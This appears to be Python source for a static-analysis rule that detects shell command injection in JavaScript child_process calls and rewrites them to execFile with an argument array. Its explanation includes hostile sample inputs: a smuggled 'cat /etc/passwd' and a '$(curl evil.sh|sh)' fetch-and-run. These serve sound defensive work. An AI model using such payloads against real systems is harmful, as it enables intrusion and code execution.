"""JS-CMDI-001 command-injection-shell-string: a shell command built from values and run with `exec`.

**What it finds.** `child_process.exec`/`execSync` (also promisified, via
`cp.exec`, destructured `exec` or `node:child_process`), `spawn`/`execFile`
with `shell: true`, `spawn("sh", ["-c", cmd])`, shelljs `exec` and
`execa.command` given a command built with a template literal, `+` or
`.concat()` from non-constant values, or any value that comes from request
input; and `spawn`/`execFile` whose program itself comes from the request.

**Not reported.** Constant commands, `execFile`/`spawn` with an argument
array (no shell), and commands whose dynamic parts are numbers or module
constants.

**Fix.** "Run without a shell" rewrites `exec(\\`git log ${branch}\\`, cb)`
to `execFile("git", ["log", branch], cb)` (and `execSync` to
`execFileSync`): each value becomes exactly one argument and no shell ever
parses it. Offered when the constant text is a plain command line (no pipes,
redirections, `;`, `&&`, `$(...)`, globs).
"""

from __future__ import annotations

import json
from typing import Iterator

from tree_sitter import Node

from ...common.names import call_matches, calls_in, dotted_name, qualified_name
from ...context import AnalysisContext
from ...javascript.flow import SYN
from ...javascript.queries import built_argument, evidence, is_safe, values_stay_put
from ...javascript.shellwords import NotPlain, split_words
from ...javascript.sources import COMMAND, safe_for
from ...javascript.triggers import last_parts
from ...model import Confidence, Edit, Finding, Fix, Severity
from ..base import Explanation, Rule, register

SHELL_CALLS = {
    "child_process.exec": "execFile",
    "child_process.execSync": "execFileSync",
    "shelljs.exec": None,
    "execa.command": None,
    "execa.commandSync": None,
    "execa.execaCommand": None,
    "execa.execaCommandSync": None,
}
SAFE_IN_COMMANDS = safe_for(COMMAND)
SPAWN_CALLS = ("child_process.spawn", "child_process.spawnSync", "child_process.execFile", "child_process.execFileSync")


def _is_shell_option(ctx: AnalysisContext, node: Node | None) -> bool:
    node = SYN.unwrap(node)
    if node is None or node.type != "object":
        return False
    for pair in node.named_children:
        if pair.type == "pair" and ctx.text(pair.child_by_field_name("key")).strip("'\"") == "shell":
            return ctx.text(pair.child_by_field_name("value")) not in ("false", "undefined", "null", "0")
    return False


@register
class JsCommandInjection(Rule):
    id = "JS-CMDI-001"
    name = "command-injection-shell-string"
    cwe = 78
    owasp = "A03:2021"
    severity = Severity.CRITICAL
    confidence = Confidence.MEDIUM
    languages = ("javascript",)
    triggers = last_parts(SHELL_CALLS, SPAWN_CALLS)  # every finding is an argument of one of these calls
    fix_title = "Run without a shell (execFile with an argument array)"
    summary = "Shell command built from non-constant values and run through a shell (child_process.exec/execSync)"
    explanation = Explanation(
        what="A command line is assembled from values and handed to `/bin/sh`, which parses it as shell code.",
        why=(
            "It works for file names and ids without special characters, so tests pass. But the shell interprets `;`, "
            "`&&`, `|`, `$(...)` and backticks inside the values: whoever controls a value runs any command with the "
            "server's privileges."
        ),
        hostile_input="`?host=8.8.8.8; cat /etc/passwd` or `file=$(curl evil.sh|sh)` runs the attacker's command.",
        fix=(
            "Run the program directly with an argument array: `execFile(\"ping\", [\"-c\", \"1\", host], cb)` or "
            "`spawn(\"git\", [\"log\", branch])`. Each value is one argument and no shell parses it. Validate values "
            "that the program itself interprets (a leading `-` can still be an option)."
        ),
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call in calls_in(ctx):
            if call.type != "call_expression":
                continue
            command = self._command_argument(ctx, call)
            if command is None:
                continue
            found = built_argument(ctx, command, SAFE_IN_COMMANDS)
            found_input = evidence(ctx, command, COMMAND)
            taint = found_input.taint
            if found is None and taint is None:
                continue
            if found is not None and taint is None and all(is_safe(ctx, h, SAFE_IN_COMMANDS) for h in found.built.holes):
                continue
            message = f"Command injection: shell command built from non-constant values{found_input.origin}; run the program with an argument array"
            fix = self._fix(ctx, call, found) if found is not None else None
            yield self.finding(
                ctx, SYN.unwrap(command), message,
                fixes=(fix,) if fix is not None else (),
                confidence=found_input.confidence,
            )

    @staticmethod
    def _command_argument(ctx: AnalysisContext, call: Node) -> Node | None:
        args = SYN.arguments(call)
        if not args:
            return None
        if call_matches(ctx, call, SHELL_CALLS):
            return args[0]
        if call_matches(ctx, call, SPAWN_CALLS):
            if any(_is_shell_option(ctx, a) for a in args[1:]):
                return args[0]
            if evidence(ctx, args[0], COMMAND).taint is not None:
                return args[0]  # the program itself is chosen by the request
            program = ctx.text(SYN.unwrap(args[0])).strip("'\"`")
            if program in ("sh", "bash", "/bin/sh", "/bin/bash", "zsh", "cmd", "cmd.exe", "powershell") and len(args) > 1:
                argv = SYN.unwrap(args[1])
                if argv is not None and argv.type == "array":
                    items = [i for i in argv.named_children if i.type != "comment"]
                    flags = [ctx.text(i).strip("'\"") for i in items]
                    if len(items) >= 2 and flags[0] in ("-c", "/c", "-Command", "-lc"):
                        return items[1]
                    if items and flags[0] not in ("-c", "/c", "-Command", "-lc"):
                        return items[0]  # `sh script` runs the file the value names
        return None

    def _fix(self, ctx: AnalysisContext, call: Node, found) -> Fix | None:
        callee = SYN.unwrap(SYN.callee(call))
        name = qualified_name(ctx, callee)
        replacement = SHELL_CALLS.get(name or "")
        written = (dotted_name(ctx, callee) or "").rsplit(".", 1)[-1]
        if replacement is None or not found.single or written not in ("exec", "execSync"):
            return None
        try:
            words = split_words(found.built)
        except NotPlain:
            return None
        if not words or len(words[0]) != 1 or not isinstance(words[0][0], str):
            return None  # the program itself must be constant
        args = [self._word_source(ctx, w) for w in words[1:]]
        values = tuple(piece for w in words for piece in w if not isinstance(piece, str))
        edits: list[Edit] = []
        imports: tuple[str, ...] = ()
        call_args = SYN.arguments(call)
        new_command = f"{json.dumps(words[0][0])}, [{', '.join(args)}]"
        if found.definition is not None:
            if not values_stay_put(ctx, found.definition, call, values):
                return None
            # the variable held the command string; the call now needs program + argv
            edits.append(Edit(call_args[0].start_byte, call_args[0].end_byte, new_command))
        else:
            edits.append(Edit(found.argument.start_byte, found.argument.end_byte, new_command))
        if callee.type == "member_expression":
            prop = callee.child_by_field_name("property")
            edits.append(Edit(prop.start_byte, prop.end_byte, replacement))
        elif callee.type == "identifier" and dotted_name(ctx, callee) != replacement:
            edits.append(Edit(callee.start_byte, callee.end_byte, replacement))
            imports = (f"{{ {replacement} }} from child_process",)
        else:
            return None
        return Fix(f"Run without a shell: {replacement}({json.dumps(words[0][0])}, [...])", tuple(edits), imports)

    @staticmethod
    def _word_source(ctx: AnalysisContext, word) -> str:
        if len(word) == 1:
            piece = word[0]
            return json.dumps(piece) if isinstance(piece, str) else ctx.text(piece)
        out = []
        for piece in word:
            if isinstance(piece, str):
                out.append(piece.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${"))
            else:
                out.append("${" + ctx.text(piece) + "}")
        return "`" + "".join(out) + "`"
